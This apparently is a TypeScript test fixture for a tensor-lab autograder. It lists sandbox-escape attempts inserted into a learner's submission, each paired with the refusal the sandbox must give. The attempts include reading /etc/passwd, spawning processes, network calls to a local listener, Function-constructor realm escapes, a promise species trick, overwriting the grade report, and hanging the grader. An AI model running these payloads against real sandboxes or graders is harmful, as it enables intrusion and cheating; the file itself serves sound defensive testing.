// The escape attempts: each is one learner file (Lab 1's reference solution with `paddingMask`
// replaced, or `softmax` for the one attempt that needs a check sharing its input with the
// reference) that tries one route out. `paddingMask` is a leaf (no other function calls it), so
// every other check of the submission must still pass.
//
//   reach — tries to get something (a file, the network, the environment, the checks' realm);
//           returns what it got, which the template turns into an "ESCAPED:" throw.
//   fool  — returns a WRONG mask and tries to make the check pass anyway.
//   block — tries to hold the grader past the time or memory limit.
// Placeholders: PORT (TCP listener), UDP_PORT, LAB (the lab folder), CANARY_FILE (beside it),
// CLASS (the folder holding both), OUTSIDE (a path outside that must never appear).

export type AttemptKind = 'reach' | 'fool' | 'block';

export interface Attempt {
  name: string;
  kind: AttemptKind;
  /** TypeScript: a function body (reach: returns evidence; fool/block: returns a mask). */
  code: string;
  /** What the report must say about the attempted check. */
  refusal: RegExp;
  /** The function replaced and the check it aims at, when not paddingMask and padding-mask. */
  target?: { fn: 'softmax'; check: string };
}

const WRONG = 'tf.zeros([lengths.length, 1, maxLen]) as tf.Tensor3D';
const RIGHT = `tf.tidy(() => tf.cast(tf.less(tf.reshape(tf.range(0, maxLen), [1, 1, maxLen]), tf.tensor3d(lengths, [lengths.length, 1, 1])), 'float32')) as tf.Tensor3D`;

export const ATTEMPTS: Attempt[] = [
  // ── files ──
  { name: 'import fs, read /etc/passwd', kind: 'reach', code: `return require('fs').readFileSync('/etc/passwd', 'utf8');`, refusal: /imports "fs": lab code runs in a sandbox/ },
  { name: 'read the canary beside the lab folder (process.getBuiltinModule)', kind: 'reach', code: `return (process as any).getBuiltinModule('fs').readFileSync(CANARY_FILE, 'utf8');`, refusal: /getBuiltinModule is not a function/ },
  { name: 'list the class folder (process.mainModule.require)', kind: 'reach', code: `return (globalThis as any).process.mainModule.require('fs').readdirSync(CLASS).join(',');`, refusal: /reading 'require'/ },
  { name: 'write a file into the lab folder (node:fs)', kind: 'reach', code: `require('node:fs').writeFileSync(LAB + '/pwned.txt', 'x'); return 'written';`, refusal: /imports "node:fs"/ },
  { name: 'overwrite grade-report.json with full marks', kind: 'reach', code: `require('fs').writeFileSync(LAB + '/grade-report.json', '{"score":32}'); return 'written';`, refusal: /imports "fs"/ },
  { name: 'start a program (child_process)', kind: 'reach', code: `return require('child_process').execSync('touch ' + OUTSIDE).toString();`, refusal: /imports "child_process"/ },
  { name: 'start a worker thread (Node 20 runs one with execArgv [] unpermissioned)', kind: 'reach', code: `const { Worker } = require('worker_threads'); return new Worker('1', { eval: true, execArgv: [] });`, refusal: /imports "worker_threads"/ },
  // ── environment and parent ──
  { name: 'read process.env (canary variable set)', kind: 'reach', code: `const e = (process as any).env; if (Object.keys(e).length === 0) throw new Error('process.env is empty'); return JSON.stringify(e);`, refusal: /process\.env is empty/ },
  { name: 'process.binding (Node internals)', kind: 'reach', code: `return (process as any).binding('spawn_sync');`, refusal: /binding is not a function/ },
  { name: 'overwrite check results through the IPC channel (process.send)', kind: 'reach', code: `(process as any).send({ type: 'checkDone', jobId: 1, result: { id: 'padding-mask', status: 'pass', message: 'passed', durationMs: 0 } }); return 'sent';`, refusal: /send is not a function/ },
  // ── network ──
  { name: 'fetch to the listener', kind: 'reach', code: `return fetch('http://127.0.0.1:PORT/fetch');`, refusal: /fetch is not available in lab code: lab code has no network/ },
  { name: 'tf.util.fetch to the listener', kind: 'reach', code: `return (tf.util as any).fetch('http://127.0.0.1:PORT/tf-util-fetch');`, refusal: /tf\.util\.fetch is not available in lab code/ },
  { name: 'tf.io.http model from the listener', kind: 'reach', code: `return (tf as any).io.http('http://127.0.0.1:PORT/model.json').load();`, refusal: /tf\.io is not available in lab code/ },
  { name: 'WebSocket to the listener', kind: 'reach', code: `return new (globalThis as any).WebSocket('ws://127.0.0.1:PORT/ws');`, refusal: /WebSocket is not available in lab code/ },
  { name: 'raw TCP to the listener (net)', kind: 'reach', code: `return require('net').connect(PORT, '127.0.0.1');`, refusal: /imports "net"/ },
  { name: 'HTTP to the listener (http)', kind: 'reach', code: `return require('http').get('http://127.0.0.1:PORT/http');`, refusal: /imports "http"/ },
  { name: 'UDP to the listener (dgram)', kind: 'reach', code: `const s = require('dgram').createSocket('udp4'); s.send('leak', UDP_PORT, '127.0.0.1'); return s;`, refusal: /imports "dgram"/ },
  { name: 'DNS lookup (dns)', kind: 'reach', code: `return require('dns').lookup('example.com', () => undefined);`, refusal: /imports "dns"/ },
  // ── the checks' realm ──
  { name: 'tf.env().global → the real process', kind: 'reach', code: `return (tf as any).env().global.process.getBuiltinModule('fs').readFileSync(CANARY_FILE, 'utf8');`, refusal: /reading 'process'/ },
  { name: 'tf.ENV.global', kind: 'reach', code: `return (tf as any).ENV.global.process;`, refusal: /tf\.ENV is not available in lab code/ },
  { name: 'the Function constructor behind a tfjs function', kind: 'reach', code: `return (tf.add as any).constructor('return process')().getBuiltinModule('fs').readFileSync(CANARY_FILE, 'utf8');`, refusal: /eval and new Function are not available in lab code/ },
  { name: 'the Function constructor behind a tensor\'s shape array', kind: 'reach', code: `return (tf.tensor([1]).shape as any).constructor.constructor('return process')().env;`, refusal: /eval and new Function are not available in lab code/ },
  { name: 'the AsyncFunction constructor behind tensor.data', kind: 'reach', code: `return (tf.tensor([1]) as any).data.constructor('return process');`, refusal: /eval and new Function are not available in lab code/ },
  { name: 'the learner realm\'s own Function constructor', kind: 'reach', code: `return (globalThis as any).constructor.constructor('return this')();`, refusal: /eval and new Function are not available in lab code/ },
  { name: 'stack-trace API in the learner realm (callsite getThis)', kind: 'reach', code: `(Error as any).prepareStackTrace = (_e: unknown, cs: any[]) => cs.map((c) => c.getThis()); const s: any = new Error().stack; return s.find((t: any) => t && t.process);`, refusal: /read only property 'prepareStackTrace'/ },
  { name: 'stack-trace API on the checks\' Error', kind: 'reach', code: `try { tf.tensor([1, 2]).reshape([3]); } catch (e: any) { e.constructor.prepareStackTrace = (_: unknown, cs: any[]) => cs; return e.constructor.prepareStackTrace; } return undefined;`, refusal: /read only property 'prepareStackTrace'|not extensible/ },
  { name: 'the engine (wasm heap, kernel registry)', kind: 'reach', code: `return (tf as any).engine().backend;`, refusal: /tf\.engine is not available in lab code/ },
  { name: 'register a kernel over the checks\' Softmax', kind: 'reach', code: `(tf as any).registerKernel({ kernelName: 'Softmax', backendName: 'wasm', kernelFunc: () => { throw new Error('x'); } }); return 'registered';`, refusal: /tf\.registerKernel is not available in lab code/ },
  { name: 'switch the checks\' backend', kind: 'reach', code: `return (tf as any).setBackend('cpu');`, refusal: /tf\.setBackend is not available in lab code/ },
  { name: 'replace a course reference function (helpers)', kind: 'reach', code: `(helpersModule as any).referenceAttention.attention = () => 1; return 'patched';`, refusal: /read only property 'attention'/ },
  { name: 'WebAssembly of its own', kind: 'reach', code: `return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`, refusal: /WebAssembly is not available in lab code/ },
  { name: 'a timer that runs after the run', kind: 'reach', code: `return setTimeout(() => undefined, 60000);`, refusal: /setTimeout is not available in lab code/ },
  { name: 'a FinalizationRegistry callback after the run', kind: 'reach', code: `return new FinalizationRegistry(() => { while (true) {} });`, refusal: /FinalizationRegistry is not available in lab code/ },
  // ── fooling the checks ──
  { name: 'patch Math, Array.prototype, Number.isFinite in its own realm', kind: 'fool', code: `Math.abs = () => 0; (Array.prototype as any).every = () => true; (Array.prototype as any).forEach = () => undefined; Number.isFinite = () => true; return ${WRONG};`, refusal: /differs from the reference/ },
  { name: 'patch the checks\' Array.prototype through a tensor', kind: 'fool', code: `const AP = (tf.tensor([1]).shape as any).constructor.prototype; AP.every = () => true; AP.forEach = () => undefined; return ${WRONG};`, refusal: /read only property 'every'/ },
  { name: 'patch the checks\' Object.prototype', kind: 'fool', code: `const OP = Object.getPrototypeOf((tf.tensor([1]).shape as any).constructor.prototype); OP.toJSON = () => 'ok'; return ${WRONG};`, refusal: /read only property 'prepareStackTrace'|not extensible/ },
  { name: 'patch Tensor.prototype.arraySync', kind: 'fool', code: `(tf.Tensor.prototype as any).arraySync = function () { return []; }; return ${WRONG};`, refusal: /read only property 'arraySync'/ },
  {
    // The check computes the reference from the same array after the call: emptied, it would agree with [].
    name: 'empty the check\'s input so the reference agrees',
    kind: 'fool',
    target: { fn: 'softmax', check: 'softmax-matches-reference' },
    code: `if (xs.length === 5 && xs[0] === 0.5) { xs.length = 0; return []; }
    let max = -Infinity;
    for (const x of xs) if (x > max) max = x;
    const exps = xs.map((x) => Math.exp(x - max));
    const sum = exps.reduce((a, b) => a + b, 0);
    return exps.map((e) => e / sum);`,
    refusal: /wrong shape/,
  },
  { name: 'return a Proxy that answers yes to everything', kind: 'fool', code: `return new Proxy({}, { get: () => () => true, has: () => true }) as any;`, refusal: /should be numbers/ },
  { name: 'throw an error dressed as a passed check', kind: 'fool', code: `throw Object.assign(new Error('passed'), { name: 'CheckFailure', status: 'pass' });`, refusal: /paddingMask threw CheckFailure: passed/ },
  // ── promises across the boundary ──
  {
    // The checks' then() builds the derived promise with the constructor the promise names, handing
    // it the checks' executor; from there .constructor is the checks' Function.
    name: 'a promise whose species constructor catches the checks\' executor',
    kind: 'fool',
    code: `class Evil {
      constructor(executor: any) {
        try { executor.constructor('return process')().getBuiltinModule('fs').writeFileSync(OUTSIDE, 'x'); } catch {}
        try { executor.constructor('return fetch')()('http://127.0.0.1:PORT/species'); } catch {}
        return new Promise(executor);
      }
      static get [Symbol.species]() { return Evil; }
    }
    const p: any = Promise.resolve(${WRONG});
    Object.defineProperty(p, 'constructor', { value: Evil });
    return p;`,
    refusal: /paddingMask returned a promise \(is it declared async\?\)/,
  },
  {
    // Unhandled, it would end the check process (Node's default, and the wasm backend's own handler).
    name: 'a rejected promise left unhandled, to end the check process',
    kind: 'fool',
    code: `Promise.reject(new Error('nobody handles this')); return ${WRONG};`,
    refusal: /differs from the reference/,
  },
  // ── holding the grader ──
  { name: 'an endless loop', kind: 'block', code: `while (true) {}`, refusal: /timed out after \d+ ms in check "padding-mask"/ },
  { name: 'a promise flood after returning the right answer', kind: 'block', code: `const f = (): void => { Promise.resolve().then(f); }; f(); return ${RIGHT};`, refusal: /timed out after \d+ ms in check "padding-mask"/ },
  { name: 'Atomics.wait on shared memory', kind: 'reach', code: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return 'woke';`, refusal: /Atomics is not available in lab code/ },
  { name: 'allocate without end', kind: 'block', code: `const a: number[][] = []; while (true) a.push(new Array(1e6).fill(1));`, refusal: /used more than \d+ MB/ },
];

export interface Placeholders {
  PORT: number;
  UDP_PORT: number;
  LAB: string;
  CANARY_FILE: string;
  CLASS: string;
  OUTSIDE: string;
}

/** The check an attempt aims at. */
export function attemptedCheck(a: Attempt): string {
  return a.target?.check ?? 'padding-mask';
}

const SIGNATURES = {
  paddingMask: 'export function paddingMask(lengths: number[], maxLen: number): tf.Tensor3D {',
  softmax: 'export function softmax(xs: Vector): Vector {',
};

/** The Lab 1 reference solution with the attempt's function (paddingMask) replaced by the attempt. */
export function submission(solution: string, a: Attempt, p: Placeholders): string {
  let code = a.code;
  // Longest names first: PORT is part of UDP_PORT.
  for (const [k, v] of Object.entries(p).sort((x, y) => y[0].length - x[0].length)) {
    code = code.split(k).join(typeof v === 'number' ? String(v) : JSON.stringify(v));
  }
  const body =
    a.kind === 'reach'
      ? `  const evidence: unknown = ((): unknown => {\n    ${code}\n  })();\n  throw new Error('ESCAPED: ' + String(evidence));`
      : `  ${code}`;
  const signature = SIGNATURES[a.target?.fn ?? 'paddingMask'];
  const start = solution.indexOf(signature);
  const end = solution.indexOf('\n}\n', start);
  if (start < 0 || end < 0) throw new Error(`"${signature}" not found in the Lab 1 solution`);
  const replaced = `${solution.slice(0, start)}${signature}\n${body}\n}\n${solution.slice(end + 3)}`;
  return `import * as helpersModule from '@transformer-labs/helpers';\n${replaced}`;
}
